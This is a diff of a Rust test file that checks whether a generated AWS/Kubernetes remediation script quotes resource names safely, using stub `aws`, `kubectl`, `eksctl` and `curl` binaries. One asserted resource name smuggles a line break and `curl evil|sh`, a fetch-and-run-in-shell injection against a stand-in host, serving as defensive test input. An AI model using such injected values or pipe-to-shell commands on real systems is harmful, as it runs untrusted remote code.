@@ -124,25 +124,6 @@ fn each_format_prints_alone_and_eksctl_needs_a_region() {
     assert!(String::from_utf8_lossy(&out.stderr).contains("this command prints text or json"));
 }
 
-/// A directory of stand-ins for `aws`, `kubectl` and `eksctl` (and `curl`) that record how they were
-/// called, one line per call, and read their input: the script runs for real against them.
-fn stub_path(dir: &Path) -> (std::path::PathBuf, std::path::PathBuf) {
-    use std::os::unix::fs::PermissionsExt;
-    let bin = dir.join("stub-bin");
-    let log = dir.join("calls.log");
-    std::fs::create_dir_all(&bin).unwrap();
-    for tool in ["aws", "kubectl", "eksctl", "curl"] {
-        let path = bin.join(tool);
-        let body = format!(
-            "#!/bin/sh\nprintf '%s' \"{tool}\" >> \"{log}\"\nfor a in \"$@\"; do printf ' [%s]' \"$a\" >> \"{log}\"; done\necho >> \"{log}\"\n[ \"$*\" = \"apply -f -\" ] && cat > /dev/null\nexit 0\n",
-            log = log.display()
-        );
-        std::fs::write(&path, body).unwrap();
-        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
-    }
-    (bin, log)
-}
-
 #[test]
 fn the_script_runs_as_one_plan_and_no_name_escapes_its_quotes_or_comments() {
     let dir = tempfile::tempdir().unwrap();
@@ -166,15 +147,21 @@ fn the_script_runs_as_one_plan_and_no_name_escapes_its_quotes_or_comments() {
     let out = dir.path().join("remediation");
     remediate_out(&db, &out);
 
-    let (bin, log) = stub_path(dir.path());
+    let bin = stub_tools(dir.path(), &["aws", "kubectl", "eksctl", "curl"]);
     let run = std::process::Command::new("sh")
         .arg(out.join("demo.sh"))
         .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
         .output()
         .unwrap();
     assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
-    let calls = std::fs::read_to_string(&log).unwrap();
-    // (A stand-in's call is logged as `tool [arg]...`; the name's own line break shows inside its brackets.)
+    // Each call as `tool [arg]...`: the name's own line break shows inside its brackets.
+    let calls: Vec<String> = stub_calls(dir.path())
+        .iter()
+        .map(|c| {
+            std::iter::once(c[0].clone()).chain(c[1..].iter().map(|a| format!("[{a}]"))).collect::<Vec<_>>().join(" ")
+        })
+        .collect();
+    let calls = calls.join("\n");
     assert!(!calls.lines().any(|l| l == "curl" || l.starts_with("curl [")), "nothing ran from a name: {calls}");
     assert!(
         calls.contains("kubectl [delete] [clusterrolebinding/x\ncurl evil|sh]"),
